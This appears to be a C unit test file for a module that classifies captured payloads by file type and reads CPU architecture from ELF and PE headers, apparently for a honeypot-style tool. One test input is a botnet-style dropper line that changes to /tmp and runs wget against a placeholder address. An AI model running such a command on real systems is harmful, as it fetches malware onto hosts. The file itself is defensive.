/* Kinds of payloads and processors of executables (blob.h). */
#include "protocol/blob.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#define EXPECT(bytes, name) \
	assert_string_equal(blob_kind_name(blob_kind(bytes, sizeof(bytes) - 1)), name)

static void kinds(void **state)
{
	(void)state;
	EXPECT("", "empty");
	EXPECT("\x7f" "ELF\1\1\1", "elf");
	EXPECT("#!/bin/sh\nwget", "script");
	EXPECT("cd /tmp || cd /var/run; wget http://192.0.2.1/a", "script");
	EXPECT("\x1f\x8b\x08\0", "gzip");
	EXPECT("BZh91AY", "bzip2");
	EXPECT("\xfd" "7zXZ\0", "xz");
	EXPECT("\x28\xb5\x2f\xfd\x04", "zstd");
	EXPECT("PK\3\4\x14\0", "zip");
	EXPECT("%PDF-1.4", "pdf");
	EXPECT("\xca\xfe\xba\xbe\0\0\0\x34", "class");
	EXPECT("\r\n<!DOCTYPE html><html>", "html");
	EXPECT("<?xml version=\"1.0\"?>", "xml");
	EXPECT("{\"a\": 1}", "json");
	EXPECT("kami/tmp\n", "text");
	EXPECT("\xe3\x81\x82 text", "text");
	EXPECT("MZ is not enough", "text");
	EXPECT("\0\1\2\3", "data");
	EXPECT("-----BEGIN RSA PRIVATE KEY-----", "pem");
}

static void tar(void **state)
{
	char file[512] = "name";

	(void)state;
	memcpy(file + 257, "ustar", 5);
	assert_int_equal(blob_kind(file, sizeof(file)), BLOB_TAR);
	assert_int_equal(blob_kind(file, 261), BLOB_DATA);
}

static void elf(uint8_t class, uint8_t order, uint16_t machine, const char *cpu)
{
	uint8_t file[20] = {0x7f, 'E', 'L', 'F', class, order, 1};
	char text[BLOB_CPU_TEXT];

	file[order == 1 ? 18 : 19] = (uint8_t)machine;
	file[order == 1 ? 19 : 18] = (uint8_t)(machine >> 8);
	assert_int_equal(blob_cpu(file, sizeof(file), text), strlen(cpu));
	assert_string_equal(text, cpu);
	/* One byte less says nothing. */
	assert_int_equal(blob_cpu(file, sizeof(file) - 1, text), 0);
	assert_string_equal(text, "");
}

static void processors(void **state)
{
	(void)state;
	elf(1, 2, 8, "mips-be");
	elf(1, 1, 8, "mips-le");
	elf(2, 2, 8, "mips64-be");
	elf(1, 1, 40, "arm-le");
	elf(1, 2, 40, "arm-be");
	elf(1, 1, 3, "x86");
	elf(2, 1, 62, "x86-64");
	elf(2, 1, 183, "aarch64");
	elf(1, 2, 20, "ppc-be");
	elf(1, 1, 42, "sh4-le");
	elf(1, 2, 4, "m68k-be");
	elf(1, 2, 2, "sparc-be");
	elf(2, 1, 243, "riscv64");
	elf(1, 1, 999, "elf-999-le");
}

static void broken(void **state)
{
	char text[BLOB_CPU_TEXT];

	(void)state;
	assert_int_equal(blob_cpu("\x7f" "ELF\1\7\1\0\0\0\0\0\0\0\0\0\2\0\3\0", 20, text), 0);
	assert_int_equal(blob_cpu("text", 4, text), 0);
	assert_int_equal(blob_cpu(NULL, 0, text), 0);
}

static void pe(void **state)
{
	uint8_t file[0x80] = "MZ";
	char text[BLOB_CPU_TEXT];

	(void)state;
	file[0x3c] = 0x40;
	memcpy(file + 0x40, "PE\0\0\x64\x86", 6);
	assert_int_equal(blob_kind(file, sizeof(file)), BLOB_PE);
	assert_int_equal(blob_cpu(file, sizeof(file), text), 6);
	assert_string_equal(text, "x86-64");
	/* An offset that points outside. */
	file[0x3f] = 0xff;
	assert_int_equal(blob_kind(file, sizeof(file)), BLOB_DATA);
	assert_int_equal(blob_cpu(file, sizeof(file), text), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(kinds),
		cmocka_unit_test(tar),
		cmocka_unit_test(processors),
		cmocka_unit_test(broken),
		cmocka_unit_test(pe),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
